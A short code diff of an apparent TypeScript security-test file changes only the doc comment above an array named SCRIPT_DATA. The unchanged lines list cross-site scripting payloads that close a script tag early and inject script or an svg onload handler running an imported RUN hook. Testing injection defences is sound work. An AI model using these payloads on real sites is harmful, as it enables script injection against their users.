@@ -1,6 +1,6 @@
 import { FOREIGN_HOST, RUN } from "../hook.ts";
 
-/** Payloads that break out of JSON, JavaScript and the page's boot data. */
+/** Payloads for JSON, for JavaScript and for the page's boot data. */
 const SCRIPT_DATA = [
   `"}]}</script><script>${RUN}</script>`,
   `\\"}</script><svg/onload=${RUN}>`,
